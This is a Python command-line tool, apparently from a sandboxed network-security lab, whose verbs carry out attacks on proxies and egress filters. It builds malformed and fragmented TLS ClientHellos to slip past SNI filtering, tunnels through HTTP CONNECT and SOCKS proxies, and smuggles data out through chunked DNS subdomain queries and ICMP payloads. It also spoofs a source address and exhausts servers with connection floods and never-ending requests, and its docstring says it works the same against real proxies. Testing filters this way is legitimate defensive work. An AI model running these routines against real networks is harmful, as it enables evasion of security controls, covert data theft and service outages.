"""Attacks on the network: `net.py VERB ARGUMENTS`. Bytes are written with Python's escapes (`\\r\\n`).

Works the same without the sandbox, where the names are real and naive proxies listen on 3128 and 1080.
"""
import os, re, socket, ssl, struct, sys, time

PATIENCE = float(os.environ.get("PATIENCE", "3"))


def unescape(text):
    return text.encode("latin-1", "backslashreplace").decode("unicode_escape").encode("latin-1")


def talk(stream, pieces, read=True):
    stream.settimeout(PATIENCE)
    try:
        for number, piece in enumerate(pieces):
            if number:
                time.sleep(0.05)
            stream.sendall(piece)
        while read:
            data = stream.recv(1 << 16)
            if not data:
                break
            print(data.decode("latin-1"), flush=True)
            # Every answer of the lab ends its line, and keeps the connection.
            if data.endswith((b"\n", b"\0")) and not os.environ.get("LISTEN"):
                break
    except OSError as error:
        print("closed:", error)
    stream.close()


def dial(host, port):
    return socket.create_connection((host, int(port)), timeout=PATIENCE)


def say(host, port, *pieces):
    """Connects as programs do and sends the pieces, each in a segment of its own."""
    talk(dial(host, port), [unescape(p) for p in pieces])


def proxy(*pieces):
    talk(dial("127.0.0.1", 3128), [unescape(p) for p in pieces])


def tunnel(target, first=b""):
    stream = dial("127.0.0.1", 3128)
    stream.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (unescape(target), unescape(target)) + first)
    answer = b""
    while b"\r\n\r\n" not in answer:
        data = stream.recv(4096)
        if not data:
            break
        answer += data
    print(answer.decode("latin-1"))
    if b" 200 " not in answer.split(b"\r\n")[0]:
        sys.exit()
    return stream


def connect(target, *pieces):
    talk(tunnel(target), [unescape(p) for p in pieces])


def early(target, piece):
    """Speaks to the server before the proxy has answered."""
    talk(tunnel(target, unescape(piece)), [])


def socks(kind, host, port, *pieces):
    stream = dial("127.0.0.1", 1080)
    stream.sendall(b"\5\1\0")
    print(stream.recv(2))
    raw = {
        "name": lambda: b"\3" + bytes([len(unescape(host))]) + unescape(host),
        "v4": lambda: b"\1" + socket.inet_aton(host),
        "v6": lambda: b"\4" + socket.inet_pton(socket.AF_INET6, host),
    }[kind]()
    stream.sendall(b"\5\1\0" + raw + struct.pack("!H", int(port)))
    answer = stream.recv(10)
    print(answer)
    if answer[1:2] == b"\0":
        talk(stream, [unescape(p) for p in pieces])


def secure(stream, sni, pieces):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        stream = context.wrap_socket(stream, server_hostname=sni or None)
    except OSError as error:
        return print("no TLS:", error)
    talk(stream, pieces)


def tls(host, port, sni, *pieces):
    secure(dial(host, port), sni, [unescape(p) for p in pieces])


def tls_connect(target, sni, *pieces):
    secure(tunnel(target), sni, [unescape(p) for p in pieces])


def extension(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def name_list(*names):
    entries = b"".join(struct.pack("!BH", 0, len(name)) + name for name in names)
    return extension(0, struct.pack("!H", len(entries)) + entries)


def client_hello(mark, *extensions):
    """A hello whose session id is the mark, 32 bytes."""
    inner = b"".join(extensions) + extension(43, b"\2\3\4") + extension(10, b"\0\2\0\x1d")
    body = b"\3\3" + os.urandom(32) + bytes([len(mark)]) + mark + b"\0\2\x13\1\1\0" + struct.pack("!H", len(inner)) + inner
    return b"\1" + struct.pack("!I", len(body))[1:] + body


def record(data, version=b"\3\1"):
    return b"\x16" + version + struct.pack("!H", len(data)) + data


def hello(kind, host, port, mark):
    good, bad, mark = b"allowed.test", b"other.test", mark.encode()
    outer = name_list(good)
    pieces = {
        "two": lambda: [record(client_hello(mark, name_list(good, bad)))],
        "twice": lambda: [record(client_hello(mark, name_list(good), name_list(bad)))],
        "empty": lambda: [record(client_hello(mark, extension(0, b"")))],
        "nameless": lambda: [record(client_hello(mark, name_list(b"")))],
        "absent": lambda: [record(client_hello(mark))],
        "other": lambda: [record(client_hello(mark, name_list(bad)))],
        "nul": lambda: [record(client_hello(mark, name_list(b"allowed.test\0.other.test")))],
        "address": lambda: [record(client_hello(mark, name_list(b"203.0.113.20")))],
        "ech": lambda: [record(client_hello(mark, outer, extension(0xFE0D, b"\0\0\1\0\1\7\0\x20" + bytes(32) + b"\0\x20" + mark)))],
        "esni": lambda: [record(client_hello(mark, outer, extension(0xFFCE, mark)))],
        "split": lambda: [record(part) for part in pieces_of(client_hello(mark, name_list(bad)), 75)],
        "segments": lambda: list(pieces_of(record(client_hello(mark, name_list(bad))), 80)),
        "sslv2": lambda: [b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + b"\7\0\xc0" * 7 + mark[:16], mark],
        "version": lambda: [record(client_hello(mark, name_list(bad)), b"\2\1")],
        "old_version": lambda: list(pieces_of(record(client_hello(mark, name_list(bad)), b"\0\2"), 80)),
        "alert": lambda: [b"\x15\3\1\0\2\1\0" + record(client_hello(mark, name_list(bad)))],
        "alert_alone": lambda: [b"\x15\3\1\0\2\1\x70", record(client_hello(mark, name_list(bad)))],
        "ciphers": lambda: [b"\x14\3\1\0\1\1" + record(client_hello(mark, name_list(bad)))],
        "database": lambda: [b"\0\0\0\x08\4\xd2\x16\x2f", record(client_hello(mark, name_list(bad)))],
        "database_at_once": lambda: [b"\0\0\0\x08\4\xd2\x16\x2f" + record(client_hello(mark, name_list(bad)))],
        "proxied": lambda: [b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0" + record(client_hello(mark, name_list(bad)))],
        "two_hellos": lambda: [record(client_hello(b"x" * 32, outer) + client_hello(mark, name_list(bad)))],
    }[kind]()
    talk(dial(host, port), pieces)


def pieces_of(data, size):
    return (data[i : i + size] for i in range(0, len(data), size))


def encode_name(name):
    return b"".join(bytes([len(label)]) + label for label in unescape(name).split(b".") if label) + b"\0"


def resolver():
    return re.search(r"^nameserver\s+(\S+)", open("/etc/resolv.conf").read(), re.M)[1]


def query(name, kind):
    return os.urandom(2) + struct.pack("!HHHHH", 0x100, 1, 0, 0, 0) + encode_name(name) + struct.pack("!HH", int(kind), 1)


def dns(name, kind=1, server=None):
    """One question over UDP; prints the code, the number of answers and the answer's text."""
    asked = query(name, kind)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(PATIENCE)
        try:
            stream.sendto(asked, (server or resolver(), 53))
            reply = stream.recv(4096)
        except OSError as error:
            return print("no answer:", error)
    code, count = reply[3] & 15, struct.unpack("!H", reply[6:8])[0]
    print("code", code, "answers", count, [".".join(map(str, reply[-4:]))] if count and int(kind) == 1 else reply[len(asked) :])


def dns_tcp(name, kind=1, server=None):
    asked = query(name, kind)
    stream = dial(server or resolver(), 53)
    talk(stream, [struct.pack("!H", len(asked)) + asked])


def many(prefix, count, kind=1):
    """So many names below one, each another piece of what is to be carried out."""
    asked = (f"{i:04x}.{prefix}" for i in range(int(count)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(PATIENCE)
        for name in asked:
            stream.sendto(query(name, kind), (resolver(), 53))
            try:
                stream.recv(4096)
            except OSError:
                break


def ping(address, text):
    body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + text.encode()
    total = sum(struct.unpack(f"!{len(body + bytes(len(body) % 2)) // 2}H", body + bytes(len(body) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try:
            socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(body, (address, 0))
        except OSError as error:
            print("ping:", error)


def udp(address, port, text):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(unescape(text), (address, int(port)))
    except OSError as error:
        print("udp:", error)


def bound(address, port, text):
    """Leaves from the host's own address, as if it were ours."""
    stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    stream.settimeout(PATIENCE)
    try:
        stream.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        stream.bind(("203.0.113.1", 0))
        stream.connect((address, int(port)))
        talk(stream, [unescape(text)])
    except OSError as error:
        print("bound:", error)


def flood(host, port, count, mark):
    """Holds so many connections open, and says afterwards whether a plain request still goes through."""
    held, failed = [], 0
    for _ in range(int(count)):
        try:
            held.append(dial(host, port))
        except OSError:
            failed += 1
    print("held", len(held), "failed", failed)
    for stream in held:
        stream.close()
    time.sleep(0.3)
    say(host, port, f"GET /{mark} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n")


def endless(host, port, start, unit, mebibytes):
    """Sends a request that does not end."""
    stream = dial(host, port)
    stream.settimeout(PATIENCE)
    sent, block = 0, unescape(unit) * (65536 // len(unescape(unit)))
    try:
        stream.sendall(unescape(start))
        while sent < int(mebibytes) << 20:
            stream.sendall(block)
            sent += len(block)
        print("took all")
    except OSError as error:
        print("stopped after", sent, error)


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](*sys.argv[2:])
    except OSError as error:
        print("failed:", error)
